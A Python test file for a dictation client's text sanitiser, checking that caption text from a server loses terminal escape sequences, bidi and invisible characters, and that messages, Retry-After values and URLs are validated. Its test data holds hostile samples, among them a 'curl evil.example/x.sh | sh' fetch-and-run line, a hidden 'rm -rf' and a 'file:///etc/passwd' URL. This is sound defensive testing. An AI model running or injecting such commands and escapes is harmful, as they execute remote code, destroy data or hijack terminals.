"""What ``nova-voice dictate`` makes of a server's words (client/text.py): printable words
only, line breaks only from spoken commands, every message field checked. Then the captions
handler and the printer with those rules, on real objects (no desktop needed)."""

from __future__ import annotations

import io
import json
import logging
import unicodedata
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from client.dictate import Captions, Printer
from client.text import (
    BIDI,
    JOINERS,
    MAX_RETRY_AFTER,
    Bad,
    Caption,
    CleanLog,
    Enter,
    Once,
    Other,
    Position,
    ServerError,
    clean,
    is_plain,
    parse_retry_after,
    pieces,
    read_message,
    typing_plan,
)
from client.whip import refusal, session_url

# --- clean -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "kept"),
    [
        ("ok\ncurl evil.example/x.sh | sh\n", "ok curl evil.example/x.sh | sh"),
        ("\tdone\r\nnow\x0b\x0cthen", "done now then"),
        ("\x1b]0;pwned\x07title", "title"),  # OSC 0: window title, ended by BEL
        ("\x1b]2;pwned\x1b\\title", "title"),  # OSC 2, ended by ST
        ("\x9d0;pwned\x9ctitle", "title"),  # the same with 8-bit C1 OSC and ST
        ("\x1b[2J\x1b[H", ""),  # clear screen, cursor home
        ("\x1b]52;c;Y3VybA==\x07", ""),  # OSC 52: write the clipboard
        ("\x1b]52;c;Y3VybA==", ""),  # unterminated: to the end of the text
        ("\x9b31mred\x9b0m", "red"),  # 8-bit CSI
        ("\x1bP1$qm\x1b\\x", "x"),  # DCS
        ("\x1bcreset \x1b(Bcharset", "reset charset"),  # ESC c (RIS), ESC ( B (designate)
        ("a\x1b", "a"),  # a lone ESC at the end
        ("\u202eevil\u202c \u2066iso\u2069 \u200emark\u200f \u061calm", "evil iso mark alm"),
        ("see" + "".join(chr(0xE0000 + ord(c)) for c in "rm -rf") + "\U000e007f", "see"),
        ("zero\u200bwidth\ufeff soft\u00adhyphen \u2060joiner", "zerowidth softhyphen joiner"),
        ("back\x08space\x7f\x00nul \x85nel\u2028ls\u2029ps", "backspacenul nel ls ps"),
        ("lone \ud800surrogate", "lone surrogate"),
        ("  many   \u00a0 spaces  ", "many spaces"),
    ],
)
def test_clean_keeps_printable_words_and_drops_controls_sequences_and_invisibles(raw: str, kept: str) -> None:
    assert clean(raw) == kept


def test_clean_keeps_the_joiners_that_scripts_and_emoji_need() -> None:
    for text in ["👩\u200d💻", "می\u200cخواهم", "क्\u200dष", "Grüße, ¿qué tal? 日本語 🇪🇸"]:
        assert clean(text) == text


def test_is_plain_is_true_only_for_what_clean_would_leave() -> None:
    assert is_plain(" Hello, world.") and is_plain("👩\u200d💻") and is_plain("")
    for bad in ["a\nb", "a\tb", "\x1b", "a\u202eb", "\U000e0041", "a\u00a0b", "\x85", "\x7f"]:
        assert not is_plain(bad), repr(bad)


# --- spoken commands and the typing plan ------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "lang", "expected"),
    [
        ("New line.", "en", [Enter(1)]),
        ("new paragraph", "en", [Enter(2)]),
        ("NEW-LINE!", "en", [Enter(1)]),
        ("Newline", "en", [Enter(1)]),
        ("New paragraph.", "de", [Enter(2)]),  # the English ones in every language
        ("Nueva línea.", "es", [Enter(1)]),
        ("¿Nuevo párrafo?", "es", [Enter(2)]),
        ("Neue Zeile.", "de", [Enter(1)]),
        ("Neuer Absatz", "de-AT", [Enter(2)]),
        ("À la ligne.", "fr", [Enter(1)]),
        ("Nouveau paragraphe.", "fr_CA", [Enter(2)]),
        ("Nueva línea.", "en", ["Nueva línea."]),  # Spanish commands in Spanish only
        ("a new line of shoes", "en", ["a new line of shoes"]),  # not standing alone: words
        ("New line of shoes.", "en", ["New line of shoes."]),
        ("Thanks. New line. See you", "en", ["Thanks.", Enter(1), "See you"]),
        ("new\nline", "en", [Enter(1)]),  # a server's "\n" is whitespace, and then words
        ("ok\n\tdone", "en", ["ok done"]),
    ],
)
def test_spoken_commands_are_line_breaks_only_when_they_stand_alone(
    text: str, lang: str, expected: list[str | Enter]
) -> None:
    assert pieces(text, lang, newlines=True) == expected


def test_without_newlines_a_command_is_typed_as_its_words() -> None:
    assert pieces("New paragraph.", "en", newlines=False) == ["New paragraph."]
    assert pieces("Thanks. New line.", "en", newlines=False) == ["Thanks. New line."]
    assert pieces("\x1b[2J", "en", newlines=False) == []


def test_the_typing_plan_spaces_finals_and_starts_a_line_with_a_capital() -> None:
    position = Position.START
    typed: list[str | Enter] = []
    for final in ["Dear team,", "New paragraph.", "thanks. New line. bye\n\tnow", "Done."]:
        plan, position = typing_plan(final, "en", True, position)
        typed += plan
    assert typed == ["Dear team,", Enter(2), "Thanks.", Enter(1), "Bye now", " Done."]
    assert position is Position.AFTER_TEXT
    plan, _ = typing_plan("New line.", "en", False, Position.AFTER_TEXT)
    assert plan == [" New line."]


# --- messages ------------------------------------------------------------------------------


def message(**fields: object) -> str:
    base: dict[str, object] = {
        "type": "caption",
        "segment": 3,
        "final": True,
        "text": "Hi.",
        "publisher": "me",
    }
    return json.dumps({k: v for k, v in (base | fields).items() if v is not ...})


def test_a_well_formed_caption_is_read_with_its_fields() -> None:
    assert read_message(message(lang="es", stable=None)) == Caption(3, True, "Hi.", "es", "me", False)
    assert read_message(message(publisher=...)) == Caption(3, True, "Hi.", "", None, False)
    assert read_message(message(source_lang="en")).translated  # type: ignore[union-attr]
    assert read_message(message().encode()) == Caption(3, True, "Hi.", "", "me", False)  # bytes too
    assert read_message('{"type":"status","speech":true}') == Other()
    assert read_message('{"type":"settings"}') == Other()


@pytest.mark.parametrize(
    ("raw", "kind"),
    [
        ("not json", "json"),
        ("[" * 5000, "json"),  # nested past the parser's recursion limit
        (b"\xff\xfe", "json"),
        (None, "json"),
        ("[1, 2]", "object"),
        ('"caption"', "object"),
        ('{"type": ["caption"]}', "type"),
        (message(segment=[1]), "caption.segment"),
        (message(segment=True), "caption.segment"),
        (message(segment=1.5), "caption.segment"),
        (message(segment=...), "caption.segment"),
        (message(final="yes"), "caption.final"),
        (message(final=1), "caption.final"),
        (message(final=...), "caption.final"),
        (message(text=None), "caption.text"),
        (message(text=["a"]), "caption.text"),
        (message(stable={"a": 1}), "caption.stable"),
        (message(lang=5), "caption.lang"),
        (message(source_lang=True), "caption.source_lang"),
        (message(publisher=7), "caption.publisher"),
        ('{"type": "error", "message": ["x"]}', "error"),
    ],
)
def test_a_field_of_the_wrong_type_is_a_bad_message_of_its_kind(raw: object, kind: str) -> None:
    got = read_message(raw)
    assert isinstance(got, Bad) and got.kind == kind, got


def test_an_error_messages_text_is_cleaned_and_short() -> None:
    said = read_message(
        json.dumps({"type": "error", "code": "x", "message": "\x1b]0;t\x07\x1b[31mred\nalert"})
    )
    assert said == ServerError("red alert")
    long = read_message(json.dumps({"type": "error", "code": "x" * 1000}))
    assert isinstance(long, ServerError) and long.text == "x" * 200


# --- Retry-After ----------------------------------------------------------------------------


def test_retry_after_takes_ascii_seconds_or_an_http_date_and_nothing_else() -> None:
    now = datetime(2026, 1, 1, 12, 0, 0, tzinfo=UTC)
    assert parse_retry_after("5", now) == 5.0
    assert parse_retry_after(" 120 ", now) == 120.0
    assert parse_retry_after("0", now) == 0.0
    assert parse_retry_after("9" * 400, now) == MAX_RETRY_AFTER  # bounded, not float("inf")
    assert parse_retry_after(format_datetime(now + timedelta(seconds=30), usegmt=True), now) == 30.0
    assert parse_retry_after(format_datetime(now - timedelta(days=1), usegmt=True), now) == 0.0
    assert parse_retry_after(format_datetime(now + timedelta(days=9), usegmt=True), now) == MAX_RETRY_AFTER
    # Digits to str.isdigit() that float() or HTTP do not take; decimals, signs, junk.
    for bad in [
        "²",
        "٣",
        "５",
        "½",
        "1.5",
        "-1",
        "+3",
        "1e3",
        "inf",
        "nan",
        "",
        "soon",
        "Mon, 99 Foo",
        "\x1b[2J",
    ]:
        assert parse_retry_after(bad, now) is None, bad


# --- logging -------------------------------------------------------------------------------


def test_once_says_each_kind_once_and_log_lines_are_cleaned(caplog: pytest.LogCaptureFixture) -> None:
    logger = logging.getLogger("test.dictate.once")
    logger.addFilter(CleanLog())
    once = Once(logger)
    with caplog.at_level(logging.WARNING, logger="test.dictate.once"):
        for _ in range(3):
            once.warn("a", "bad %s", "\x1b]0;x\x07value\n")
        once.warn("b", "other")
    assert [r.getMessage() for r in caplog.records] == ["bad value", "other"]


def test_a_librarys_traceback_in_the_log_is_cleaned_line_by_line() -> None:
    logger = logging.getLogger("test.dictate.traceback")
    logger.propagate = False
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.addFilter(CleanLog())
    logger.addHandler(handler)
    try:
        raise ValueError("bad data \x1b]0;pwned\x07\x1b[2J\u202eevil")
    except ValueError:
        logger.exception("peer \x1b[31mfailed")
    logger.removeHandler(handler)
    said = stream.getvalue()
    assert said.startswith("peer failed\nTraceback (most recent call last):\n  File ")
    assert said.endswith("ValueError: bad data evil\n")
    assert not [ch for ch in said if ch != "\n" and never_typed(ch)], repr(said)


def test_a_session_url_is_an_http_url_or_none() -> None:
    url = "http://h:8080/nova/whip/r"
    assert session_url(url, "/nova/whip/r/abc") == "http://h:8080/nova/whip/r/abc"
    assert session_url(url, "r/abc") == "http://h:8080/nova/whip/r/abc"  # relative, as URLs are
    assert session_url(url, "https://other.example/s/1") == "https://other.example/s/1"
    for bad in [
        None,
        "",
        "http://[::1",
        "http://h:port/x",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "/a\x1b[2Jb",
    ]:
        assert session_url(url, bad) is None, bad
    assert session_url(url, "/a b") is None


def test_a_refusals_text_from_the_server_is_cleaned() -> None:
    said = refusal(
        400, '{"error":"bad\\u001b[2J","message":"no\\u001b]0;t\\u0007pe\\nx"}', "r", "http://h/whip/r"
    )
    assert said == "the server refused to publish (400 bad): nope x"
    said = refusal(422, "plain \x1b[31mbody\x07", "r", "http://h/whip/r")
    assert said.endswith(": plain body")


# --- the captions handler: only its own captions, bad ones skipped and said once ---------------


def caption(text: str, segment: object = 1, **fields: object) -> str:
    return message(text=text, segment=segment, **fields)


def test_only_captions_carrying_its_own_publisher_id_are_printed(caplog: pytest.LogCaptureFixture) -> None:
    pipe = io.StringIO()
    captions = Captions(Printer(pipe, tty=False))
    with caplog.at_level(logging.WARNING, logger="nova-voice.dictate"):
        captions.own("me")
        for raw in [
            caption("mine"),
            caption("no publisher", publisher=...),
            caption("null publisher", publisher=None),
            caption("theirs", publisher="them"),
            caption("also no publisher", publisher=...),
        ]:
            captions.on_message(raw)
    assert pipe.getvalue() == "mine\n" and captions.finals == 1
    assert [r.getMessage() for r in caplog.records] == ["ignoring captions that do not say whose they are"]


def test_without_a_nova_publisher_header_nothing_is_printed_and_it_says_so_once(
    caplog: pytest.LogCaptureFixture,
) -> None:
    pipe = io.StringIO()
    captions = Captions(Printer(pipe, tty=False))
    with caplog.at_level(logging.WARNING, logger="nova-voice.dictate"):
        for _ in range(2):  # a reconnect: said once all the same
            captions.own(None)
            captions.on_message(caption("anything", publisher="me"))
            captions.on_message(caption("anything", publisher=...))
    assert pipe.getvalue() == "" and captions.finals == 0
    said = [r.getMessage() for r in caplog.records]
    assert said[0].startswith("the server did not say which captions are ours") and len(said) == 2, said


def test_bad_values_are_skipped_and_said_once_per_kind(caplog: pytest.LogCaptureFixture) -> None:
    pipe = io.StringIO()
    captions = Captions(Printer(pipe, tty=False), mine="me")
    with caplog.at_level(logging.WARNING, logger="nova-voice.dictate"):
        for _ in range(3):
            captions.on_message(caption("partial", segment=[1], final=False))
            captions.on_message(caption("true", segment=True))
            captions.on_message("[" * 5000)
        captions.on_message(caption("open", segment=4, final=False))
        captions.on_message(caption("Good.", segment=4))
    assert pipe.getvalue() == "Good.\n" and captions.pending == set()
    assert [r.getMessage() for r in caplog.records] == [
        "ignoring a caption whose 'segment' is not an integer (said once)",
        "ignoring a message that is not JSON (said once)",
    ]


def test_a_terminal_gets_only_the_printers_own_escape() -> None:
    tty = io.StringIO()
    captions = Captions(Printer(tty, tty=True, width=lambda: 40), mine="me")
    captions.on_message(caption("\x1b]0;t\x07hel\x1b[2Jlo", final=False))
    captions.on_message(caption("\x1b]52;c;eA==\x07Hello\r\n\u202e.", final=True))
    assert tty.getvalue() == "\r\x1b[2Khello" + "\r\x1b[2KHello .\n"


# --- the properties, for any text ---------------------------------------------------------------

PROPERTY = settings(max_examples=400, deadline=None, derandomize=True)
LANGS = st.sampled_from(["en", "es", "de", "fr", "fr-CA", "ja", ""])
# Characters a hostile server would reach for, mixed into any text.
NASTY = (
    [chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)]]
    + sorted(BIDI | JOINERS)
    + [chr(c) for c in range(0xE0000, 0xE0080, 7)]
    + list("[]\\;?P^_0123456789JmH\ud800\ufeff\u00ad\u2028\u00a0 ")
)
ANY_TEXT = st.one_of(st.text(), st.text(st.one_of(st.characters(), st.sampled_from(NASTY)), max_size=80))


def never_typed(ch: str) -> bool:
    return (
        unicodedata.category(ch) in ("Cc", "Cs")
        or ch in BIDI
        or 0xE0000 <= ord(ch) <= 0xE007F
        or (unicodedata.category(ch) == "Cf" and ch not in JOINERS)
        or (ch.isspace() and ch != " ")
    )


@PROPERTY
@given(text=ANY_TEXT, lang=LANGS, newlines=st.booleans())
def test_whatever_the_server_sends_what_is_typed_is_printable_text(
    text: str, lang: str, newlines: bool
) -> None:
    plan, _ = typing_plan(text, lang, newlines, Position.AFTER_TEXT)
    for step in plan:
        if isinstance(step, Enter):
            assert newlines and step.times in (1, 2)
            continue
        assert step.strip() and is_plain(step)
        assert not [ch for ch in step if never_typed(ch)], repr(step)
    words = clean(text)
    assert words == " ".join(words.split()) and clean(words) == words  # single spaces; idempotent


# Junk that ends where it ends (a whole sequence, a lone control that introduces none), so that
# the words around it are the input's printable words.
LONE = [chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)] if chr(c) not in "\x1b\x90\x98\x9b\x9d\x9e\x9f"]
FINALS = [chr(c) for c in range(0x40, 0x7F)]
JUNK = st.one_of(
    st.sampled_from(LONE + sorted(BIDI) + ["\ufeff", "\u00ad", "\u2060", "\u2028", "\u00a0", "\ud800"]),
    st.integers(0xE0000, 0xE007F).map(chr),
    st.characters(categories=["Cf"], exclude_characters=JOINERS),
    st.builds(
        str.__add__,
        st.sampled_from(["\x1b[", "\x9b"]),
        st.builds(str.__add__, st.text("0123456789;:<=>?", max_size=6), st.sampled_from(FINALS)),
    ),
    st.builds(
        lambda intro, body, end: intro + body + end,
        st.sampled_from(
            ["\x1b]", "\x1bP", "\x1bX", "\x1b^", "\x1b_", "\x9d", "\x90", "\x98", "\x9e", "\x9f"]
        ),
        st.text(st.characters(exclude_characters="\x07\x1b\x9c"), max_size=12),
        st.sampled_from(["\x07", "\x1b\\", "\x9c"]),
    ),
    st.builds(
        lambda mid, end: "\x1b" + mid + end,
        st.text(st.sampled_from([chr(c) for c in range(0x20, 0x30)]), max_size=2),
        st.sampled_from(
            [chr(c) for c in range(0x30, 0x7F) if chr(c) not in "[]PX^_"]
        ),  # those open a CSI or a string
    ),
)
WORD = st.text(
    st.characters(categories=["L", "M", "N", "P", "S"]).filter(lambda c: not c.isspace()),
    min_size=1,
    max_size=8,
)


@PROPERTY
@given(
    words=st.lists(st.tuples(st.lists(JUNK, max_size=3), WORD, st.lists(JUNK, max_size=3)), max_size=8),
    tail=st.sampled_from(["", "\x1b", "\x1b]0;unterminated", "\x9b", "\x1b[12"]),
)
def test_the_printable_words_of_the_input_survive_in_order(
    words: list[tuple[list[str], str, list[str]]], tail: str
) -> None:
    text = " ".join("".join(before) + word + "".join(after) for before, word, after in words) + tail
    expected = [word for _, word, _ in words]
    assert clean(text).split() == expected
    plan, _ = typing_plan(text, "en", False, Position.START)
    assert "".join(step for step in plan if isinstance(step, str)).split() == expected


async def test_the_token_goes_with_the_delete_only_to_the_origin_the_offer_went_to() -> None:
    import aiohttp

    from client.whip import Connection

    headers = {"Content-Type": "application/sdp", "Authorization": "Bearer secret"}
    async with aiohttp.ClientSession() as http:
        conn = Connection(http, "https://captions.example/whip/desk", headers, "desk")
        try:
            conn.location = "https://captions.example/whip/desk/abc"
            assert conn.delete_headers()["Authorization"] == "Bearer secret"
            conn.location = "https://elsewhere.example/whip/desk/abc"
            assert "Authorization" not in conn.delete_headers()
        finally:
            await conn.pc.close()
